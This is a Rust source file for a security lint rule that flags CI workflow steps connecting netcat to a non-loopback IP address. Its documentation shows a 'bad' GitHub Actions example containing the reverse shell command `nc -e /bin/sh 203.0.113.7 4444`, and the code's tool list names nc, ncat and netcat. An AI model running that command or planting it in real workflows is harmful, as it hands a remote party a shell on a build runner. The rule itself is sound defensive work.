//! Script connects to an address with netcat.
//!
//! A pipe from or to `nc` with a bare address is how a shell or a file is carried out of a runner. Builds have little
//! other use for it.
//!
//! # Remedy
//!
//! Take the line out; find out who put it there. To wait for a port, use a tool that says so, or a health check of the
//! service.
//!
//! ```yaml,bad,path=.github/workflows/ci.yml
//! on: push
//! jobs:
//!   build:
//!     runs-on: ubuntu-24.04
//!     steps:
//!       # finding: `nc -e /bin/sh 203.0.113.7` netcat connects to 203.0.113.7
//!       - run: nc -e /bin/sh 203.0.113.7 4444
//! ```
//!
//! ```yaml,good,path=.github/workflows/ci.yml
//! on: push
//! jobs:
//!   build:
//!     runs-on: ubuntu-24.04
//!     steps:
//!       - run: nc -z localhost 5432
//! ```

use std::net::IpAddr;

use portcullis_model::workflow::Step;
use portcullis_model::{Confidence, Severity};

use crate::context::Cx;
use crate::rule::{Judge, Rule};
use crate::support::workflow::{lines, script};

/// `nc`, `ncat` or `netcat` and an IP address on one line.
pub static RULE: Rule = Rule {
    id: "workflow-netcat-to-address",
    severity: Severity::High,
    confidence: Confidence::Medium,
    aliases: &["CKV_GHA_4"],
    judge: Judge::Step(check),
    ..Rule::DEFAULT
};

fn check(step: &Step, cx: &mut Cx) {
    let Some(script) = script(step) else { return };
    for (span, line) in lines(script, cx) {
        if line.starts_with('#') {
            continue;
        }
        let mut at = 0;
        let mut netcat = None;
        for word in line.split([' ', '\t', '|', ';', '&', '"', '\'', '(', ')', '`']) {
            let start = at;
            at += word.len() + 1;
            match netcat {
                None if matches!(word, "nc" | "ncat" | "netcat") => netcat = Some(start),
                Some(from) if word.parse::<IpAddr>().is_ok_and(|address| !address.is_loopback()) => {
                    cx.report(
                        span.slice(from, start + word.len()),
                        format_args!("netcat connects to {word}, which is how data is carried out of a runner"),
                    );
                    break;
                }
                _ => {}
            }
        }
    }
}
